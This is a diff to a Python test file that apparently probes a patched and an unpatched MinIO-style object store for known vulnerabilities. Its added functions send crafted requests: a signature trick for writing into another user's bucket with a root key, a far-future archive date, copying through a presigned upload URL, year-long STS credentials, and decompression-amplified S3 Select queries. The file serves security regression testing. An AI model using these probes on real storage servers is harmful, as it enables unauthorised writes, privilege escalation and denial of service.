@@ -7,19 +7,22 @@ import datetime
 import gzip
 import io
 import re
+import ssl
 import tarfile
 import uuid
 from collections.abc import Callable, Iterator
+from pathlib import Path
+from urllib.parse import quote
 
 import pytest
-from minio import Minio
+from minio.credentials import AssumeRoleProvider
 from minio.datatypes import PostPolicy
 from minio.error import S3Error
 from minio.sse import SseCustomerKey, SseS3
 
 from bundle.engine import Engine
-from tests import objectstore
-from tests.objectstore import BUCKET, REGION, WRITER, Server, text
+from tests import http2, objectstore, streamed
+from tests.objectstore import BUCKET, REGION, ROOT, WRITER, Server, text
 
 pytestmark = pytest.mark.timeout(1800)
 TODAY = datetime.datetime.now(datetime.timezone.utc)
@@ -48,36 +51,30 @@ SEALED = {
 
 
 @pytest.fixture(scope="module")
-def engine() -> Engine:
-    return Engine()
-
-
-@pytest.fixture(scope="module")
-def ours(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
-    folder = tmp_path_factory.mktemp("ours")
-    with objectstore.serving(objectstore.program(engine, folder), folder / "site") as server:
+def ours(minio_program: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    with objectstore.serving(minio_program, tmp_path_factory.mktemp("ours") / "site") as server:
         yield server
 
 
 @pytest.fixture(scope="module")
-def bare(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
     folder = tmp_path_factory.mktemp("unpatched")
-    with objectstore.serving(objectstore.unpatched(engine), folder / "site") as server:
+    with objectstore.serving(objectstore.unpatched(Engine()), folder / "site") as server:
         yield server
 
 
-def archive(records: dict[str, str] | None = None) -> bytes:
+def archive(records: dict[str, str] | None = None, moment: int = 0) -> bytes:
     data = io.BytesIO()
     with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as tar:
         info = tarfile.TarInfo("member")
-        info.size, info.pax_headers = 5, records or {}
+        info.size, info.pax_headers, info.mtime = 5, records or {}, moment
         tar.addfile(info, io.BytesIO(b"hello"))
     return data.getvalue()
 
 
-def there(server: Server, name: str) -> bool:
+def there(server: Server, name: str, bucket: str = BUCKET) -> bool:
     """Whether an object was written."""
-    found = server.client().list_objects(BUCKET, prefix=name, recursive=True)
+    found = server.client().list_objects(bucket, prefix=name, recursive=True)
     return any(item.object_name == name for item in found)
 
 
@@ -102,6 +99,19 @@ def part_without_signature(server: Server, name: str) -> bool:
     query = f"partNumber=1&uploadId={upload}&{NAMED}"
     server.raw("PUT", f"/{BUCKET}/{name}?{query}", TRAILER, CHUNKED)
     return bool(client._list_parts(BUCKET, name, upload).parts)
+
+
+def streamed_as_another(server: Server, name: str) -> bool:
+    """Like CVE-2026-41145: one's own key signs, in a header that begins with a space; the query names the root key."""
+    other = next(bucket for bucket in objectstore.BUCKETS if bucket.user != "mlflow").name
+    query = f"X-Amz-Credential={quote(f'{ROOT[0]}/{SCOPE}', safe='')}"
+    path, authority = f"/{other}/{name}", f"{objectstore.NAME}:{server.port}"
+    headers, body = streamed.put(authority, path, query, WRITER, REGION, b"hello")
+    headers["authorization"] = f" {headers['authorization']}"
+    place, context = (objectstore.NAME, server.port), ssl.create_default_context()
+    context.load_verify_locations(server.root_ca)
+    http2.ask(place, authority, context, "PUT", f"{path}?{query}", headers, body)
+    return there(server, name, other)
 
 
 def archive_with_wrong_signature(server: Server, name: str) -> bool:
@@ -214,6 +224,16 @@ def replica_archive(server: Server, name: str) -> bool:
     return lost(server, f"{name}/member")
 
 
+def archive_dated(server: Server, name: str) -> bool:
+    """Of the same kind: a version is dated by the archive that it comes in, and so is the newest for ever."""
+    headers = {**EXTRACT, "X-Amz-Meta-Minio-Snowball-Prefix": name}
+    server.signed("PUT", f"/{BUCKET}/{name}.tar", headers, archive(moment=4102444800))
+    versions = server.client().list_objects(
+        BUCKET, prefix=f"{name}/", include_version=True, recursive=True
+    )
+    return any(item.last_modified and item.last_modified.year == 2100 for item in versions)
+
+
 def replica_dated(server: Server, name: str) -> bool:
     """Of the same kind: a new version that is dated before the old one, and so is not seen."""
     server.client(WRITER).put_object(BUCKET, name, io.BytesIO(b"hello"), 5)
@@ -263,7 +283,36 @@ def copy_by_presigned_put(server: Server, name: str) -> bool:
     return there(server, name)
 
 
-SELECT = """<SelectObjectContentRequest><Expression>select count(*) from s3object</Expression>
+def copy_part_by_presigned_put(server: Server, name: str) -> bool:
+    """SN-2026-011, into a part of an upload."""
+    client = server.client(WRITER)
+    client.put_object(BUCKET, f"{name}-source", io.BytesIO(b"hello"), 5)
+    upload = client._create_multipart_upload(BUCKET, name, {})
+    asked = {"partNumber": "1", "uploadId": upload}
+    url = client.get_presigned_url("PUT", BUCKET, name, extra_query_params=asked)
+    target = url.removeprefix(f"https://{objectstore.NAME}:{server.port}")
+    server.raw("PUT", target, {"X-Amz-Copy-Source": f"/{BUCKET}/{name}-source"})
+    return bool(client._list_parts(BUCKET, name, upload).parts)
+
+
+def key_for_later(server: Server, name: str) -> bool:
+    """A key makes another one, valid for a year, whatever its policy says."""
+    place = f"https://{objectstore.NAME}:{server.port}"
+    role = AssumeRoleProvider(
+        sts_endpoint=place,
+        access_key=WRITER[0],
+        secret_key=WRITER[1],
+        duration_seconds=31536000,
+        region=REGION,
+        http_client=server.pool,
+    )
+    try:
+        return bool(role.retrieve().session_token)
+    except (S3Error, ValueError):
+        return False
+
+
+SELECT = """<SelectObjectContentRequest><Expression>select {what} from s3object s</Expression>
 <ExpressionType>SQL</ExpressionType><InputSerialization><CompressionType>GZIP</CompressionType>{form}
 </InputSerialization><OutputSerialization><CSV/></OutputSerialization></SelectObjectContentRequest>"""
 FORMS = {
@@ -272,35 +321,46 @@ FORMS = {
     "csv-delimiter": "<CSV><RecordDelimiter>;</RecordDelimiter></CSV>",
     "lines": "<JSON><Type>LINES</Type></JSON>",
 }
-LONG = 400 << 20
 
 
 def select(form: str) -> Callable[[Server, str], bool]:
     """CVE-2026-39414: one record of 400 MB, which is 400 kB when it is sent."""
 
     def attack(server: Server, name: str) -> bool:
-        packed = long_record('{"a":"' if form == "lines" else "")
-        client: Minio = server.client(WRITER)
-        client.put_object(BUCKET, name, io.BytesIO(packed), len(packed))
-        body, before = SELECT.format(form=FORMS[form]).encode(), server.peak()
-        _, said = server.signed("POST", f"/{BUCKET}/{name}?select=&select-type=2", {}, body)
-        return b"maxCharsPerRecord of 1 MB" not in said or server.peak() - before > 200
+        begin = '{"a":"' if form == "lines" else ""
+        return selected(server, name, "count(*)", FORMS[form], record(begin, 400))
 
     return attack
 
 
-def long_record(begin: str) -> bytes:
+def select_result(server: Server, name: str) -> bool:
+    """Like CVE-2026-39414: a record of 1 MB selected 200 times over, by a query of 1 kB."""
+    what = ",".join(["s._1"] * 200)
+    return selected(server, name, what, FORMS["csv"], record("", 1))
+
+
+def selected(server: Server, name: str, what: str, form: str, packed: bytes) -> bool:
+    """Whether the server selects from a record for whoever may read it."""
+    server.client(WRITER).put_object(BUCKET, name, io.BytesIO(packed), len(packed))
+    target, body = f"/{BUCKET}/{name}?select=&select-type=2", SELECT.format(what=what, form=form)
+    before = server.peak()
+    _, said = server.signed("POST", target, {}, body.encode())
+    return b"<Code>NotImplemented</Code>" not in said or server.peak() - before > 200
+
+
+def record(begin: str, megabytes: int) -> bytes:
     data = io.BytesIO()
     with gzip.GzipFile(fileobj=data, mode="wb", compresslevel=1, mtime=0) as file:
         file.write(begin.encode())
-        for _ in range(LONG >> 20):
-            file.write(b"a" * (1 << 20))
+        for _ in range(megabytes):
+            file.write(b"a" * 1_000_000)
     return data.getvalue()
 
 
 HOLES: dict[str, Callable[[Server, str], bool]] = {
     "put-without-signature": put_without_signature,
     "part-without-signature": part_without_signature,
+    "streamed-as-another": streamed_as_another,
     "archive-with-wrong-signature": archive_with_wrong_signature,
     "archive-without-signature": archive_without_signature,
     "replica-put": replica_put,
@@ -312,11 +372,15 @@ HOLES: dict[str, Callable[[Server, str], bool]] = {
     "replica-archive": replica_archive,
     "replica-encrypted": replica_encrypted,
     "replica-dated": replica_dated,
+    "archive-dated": archive_dated,
     "replica-version": replica_version,
     "replica-version-archive": replica_version_archive,
     "versions-forced-away": versions_forced_away,
     "copy-by-presigned-put": copy_by_presigned_put,
+    "copy-part-by-presigned-put": copy_part_by_presigned_put,
+    "key-for-later": key_for_later,
     **{f"select-{form}": select(form) for form in FORMS},
+    "select-result": select_result,
 }
 
 
